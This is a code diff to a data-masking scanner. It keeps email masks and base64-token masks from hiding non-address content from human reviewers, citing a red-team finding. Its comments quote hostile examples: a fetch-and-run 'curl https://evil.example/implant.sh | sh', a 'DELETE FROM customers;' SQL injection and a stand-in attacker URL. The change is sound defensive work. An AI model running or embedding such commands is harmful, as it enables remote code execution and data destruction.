@@ -234,6 +234,20 @@ const CHAR_SPACED_EMAIL = new RegExp(
 // What CHAR_SPACED_EMAIL finds must be an address once its spaces are gone.
 const COMPACT_EMAIL = /^[\p{L}\p{N}._%+\-'!#$*^`{|}~]{1,64}@(?:[\p{L}\p{N}-]{1,63}\.){1,8}\p{L}{2,24}$/u;
 const SPACED_DOT = / \.|\. /g;
+/** A quoted local part whose mask hides nothing but a name: letters, digits, `._%+-'` and spaces. */
+const PLAIN_QUOTED_LOCAL = /^"[\p{L}\p{N}._%+\-' ]{1,64}"/u;
+/**
+ * Whether an address EMAIL found may be masked: a mask hides what it covers from the reviewer, so it covers only what can
+ * be an address people use. A quoted local part holding anything else (a closing and an opening SQL comment around `DELETE FROM customers;`,
+ * `"https://evil.example/verify?t=9"@acme.com`), or an unquoted one past the 64 characters a local part may have, is
+ * found (the text goes to review) and shown as written: masked, it hid SQL, a script's URL and a link from the reviewer
+ * who approved them (red team, 2026-12-07).
+ */
+function maskable(address: string): boolean {
+  if (address[0] === '"') return PLAIN_QUOTED_LOCAL.test(address);
+  const at = address.search(/ {0,2}@|%40/);
+  return at <= 64;
+}
 /**
  * Whether the domain of an address whose dots are spaced is one: a letter in every label ("meet @ 5 . ok" is prose),
  * and a top-level domain in one case ("I am @ home . Ok" is two sentences).
@@ -452,6 +466,22 @@ function scanLayer(text: string, options: MaskingOptions, strict: boolean, found
   return maskEncoded(scanReading(shown, options, strict, found, 'sent'), options, strict, found, decodings);
 }
 
+/** What decoded text may hold beside its masks and still be masked whole: a label (`Email: `, `tel `), no more. */
+const MAX_HIDDEN_BESIDE_MASKS = 16;
+/** The masks scanning writes (`MASK_FORMS` of masking.ts, as they stand in a decoded text). */
+const MASKS_IN_TEXT = /.\*\*\*@\[email\]|\[(?:card|iban|phone) …[^\]\n]{0,8}\]|\[[a-z][a-z0-9-]{0,40}\]|\[encoded [^\]\n]*\]/gu;
+
+/**
+ * The mask of an encoded token whose decoded text holds regulated data: `[encoded <kinds>]` when that text is the data
+ * (and a label at most), or `[encoded <kinds>: <the decoded text, masked>]` when it holds more. Masked whole, a token
+ * hid everything else it decodes to: a script in base64 that names one address showed as `[encoded email]`, and its
+ * `curl https://evil.example/implant.sh | sh` was approved unseen (red team, 2026-12-07).
+ */
+function encodedMask(kinds: string[], masked: string): string {
+  const beside = masked.replace(MASKS_IN_TEXT, '').replace(/[\s.,;:=_'"-]/g, '');
+  return beside.length <= MAX_HIDDEN_BESIDE_MASKS ? `[encoded ${kinds.join(', ')}]` : `[encoded ${kinds.join(', ')}: ${masked}]`;
+}
+
 /** Encodings read inside one another (base64 of base64 of hex): past that, a token is left as it is. */
 const MAX_DECODINGS = 3;
 
@@ -467,11 +497,11 @@ function maskEncoded(text: string, options: MaskingOptions, strict: boolean, fou
   const maskIfFound = (start: number, end: number, decoded: string | undefined): void => {
     if (decoded === undefined) return;
     const kinds = new Set<string>();
-    scanLayer(decoded, options, strict, (kind) => kinds.add(kind), decodings + 1);
+    const masked = scanLayer(decoded, options, strict, (kind) => kinds.add(kind), decodings + 1);
     if (!kinds.size) return;
     const named = [...kinds].sort();
     for (const kind of named) found?.(kind);
-    (edits ??= []).push([start, end, `[encoded ${named.join(', ')}]`]);
+    (edits ??= []).push([start, end, encodedMask(named, masked)]);
   };
   forEachToken(text, (pieces) => {
     const [start, end] = [pieces[0], pieces[pieces.length - 1]];
@@ -642,6 +672,8 @@ function scan(text: string, options: MaskingOptions, strict: boolean, found: OnF
     out = editor.replace(out, EMAIL, (m) => {
       if (!spacedDomainPlausible(m)) return m;
       found?.('email');
+      // Found, and so reviewed, but not masked: a mask would hide text that is no address (`maskable`).
+      if (!maskable(m)) return m;
       return `${m[0]}***@[email]`;
     });
   }
